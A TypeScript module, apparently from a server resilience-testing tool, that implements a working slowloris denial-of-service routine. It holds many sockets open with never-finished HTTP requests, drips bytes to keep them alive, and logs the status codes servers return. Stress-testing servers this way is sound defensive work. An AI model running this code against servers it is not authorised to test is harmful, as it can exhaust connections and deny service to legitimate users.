import type { Socket } from 'node:net';
import { pauseUnlessOver } from './message-window.js';
import type { Target } from './target.js';

interface Drip {
  connections: number;
  /** Sent at once. */
  head: string;
  /** Sent every {@link DRIP_MS}; `null` for a client that says nothing more. */
  drop: string | null;
}

const DRIP_MS = 300;

/** Holds many connections with requests that never come to their end (slowloris). */
export async function dripBytes(
  signal: AbortSignal,
  target: Target,
  { connections, head, drop }: Drip,
): Promise<void> {
  const sockets: Socket[] = [];
  const open = async () => {
    const socket = await target.openWire();
    if (socket === null) return target.note('refused');
    target.note('opened');
    socket.once('data', (piece: Buffer) => target.note(readStatus(piece)));
    socket.once('end', () => socket.destroy());
    socket.write(head);
    sockets.push(socket);
  };
  while (!signal.aborted) {
    const alive = sockets.filter((socket) => !socket.destroyed);
    sockets.splice(0, sockets.length, ...alive);
    if (drop !== null) for (const socket of alive) socket.write(drop);
    const missing = connections - alive.length;
    await Promise.all(Array.from({ length: missing }, open));
    await pauseUnlessOver(DRIP_MS, signal);
  }
}

/** The answer to a request that never ended: 408, 413, 417, 431, or 100 to go on. */
const readStatus = (piece: Buffer): string =>
  /^HTTP\/1\.1 (\d{3})/.exec(piece.toString('latin1', 0, 12))?.[1] ?? 'no HTTP';
